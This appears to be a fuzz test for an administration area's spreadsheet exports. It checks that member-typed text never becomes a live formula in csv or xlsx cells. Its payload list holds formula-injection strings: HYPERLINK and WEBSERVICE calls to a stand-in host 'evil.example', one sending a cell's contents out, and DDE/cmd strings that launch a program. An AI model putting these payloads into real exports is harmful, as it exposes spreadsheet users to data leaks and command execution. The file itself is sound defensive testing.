// Formula injection into the administration area's files (issue 25, item 10), fuzzed: whatever
// text a member types (a formula's first character, its full-width form, control characters,
// quotes, line breaks, huge texts), no xlsx cell reads back as a formula or starts one, and the
// xlsx cell holds what the csv cell holds: one rule (neutraliseFormula) for both writers.
// tests/api/admin-export-spreadsheets.test.ts seeds the same through the real exports.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { buffer } from 'node:stream/consumers';
import { csvFile, neutraliseFormula, oneBatch, xlsxFile, type Sheet } from '../../server/src/lib/export-files.js';

const STARTS_A_FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '\r\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\u0001=', '\u000B+', "'", '"=', ' ='];
const PAYLOADS = ['HYPERLINK("http://evil.example/?"&A1,"x")', 'cmd|\' /C calc\'!A0', 'SUM(1+1)*cmd', 'WEBSERVICE("http://evil.example")', 'DDE("cmd";"/C calc";"!A0")', '', '1', '2+3'];

/** Member-typed text as an attacker types it. */
const hostileText = fc.oneof(
  fc.tuple(fc.constantFrom(...PREFIXES), fc.constantFrom(...PAYLOADS), fc.string({ maxLength: 40 })).map(([p, q, tail]) => `${p}${q}${tail}`),
  fc.string({ maxLength: 60 }),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

const sheetOf = (rows: string[][]): Sheet => ({
  name: 'Fuzz',
  columns: rows[0]!.map((_, i) => ({ header: `c${i}` })),
  batches: oneBatch(rows),
});

/** The xlsx writer drops what XML 1.0 cannot carry (before neutralising)... */
const notXml = (s: string) => s.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, '');
/** ...and XML carries a carriage return as a line feed (XML 1.0 section 2.11). */
const asXmlReadsIt = (s: string) => s.replace(/\r\n?/g, '\n');

describe('formula injection, fuzzed', () => {
  it('no xlsx cell is or starts a formula, and each holds the csv cell (one rule)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(hostileText, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 8 }), async (rows) => {
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load((await buffer(xlsxFile([sheetOf(rows)]))) as unknown as ArrayBuffer);
        const sheet = workbook.worksheets[0]!;
        const csv = parse(await buffer(csvFile([sheetOf(rows)])), { bom: true, relax_column_count: true }) as string[][];
        expect(csv).toHaveLength(rows.length + 1);
        rows.forEach((cells, r) => {
          cells.forEach((text, c) => {
            const cell = sheet.getRow(r + 2).getCell(c + 1);
            expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
            const value = cell.value == null ? '' : String(cell.value);
            expect(value).not.toMatch(STARTS_A_FORMULA);
            expect(csv[r + 1]![c]).toBe(neutraliseFormula(text));
            expect(csv[r + 1]![c]).not.toMatch(STARTS_A_FORMULA);
            // The xlsx holds the csv's text, less what XML cannot carry (neutralised after that).
            expect(value).toBe(asXmlReadsIt(neutraliseFormula(notXml(text))));
          });
        });
      }),
      { numRuns: 60 },
    );
  });

  it('the rule: a quote in front of exactly the texts that start a formula', () => {
    for (const p of ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']) expect(neutraliseFormula(`${p}1+1`)).toBe(`'${p}1+1`);
    for (const safe of ['', 'Riverside Rovers', ' =1', "'=1", '1-2', 'a=b', '\n=1']) expect(neutraliseFormula(safe)).toBe(safe);
  });
});
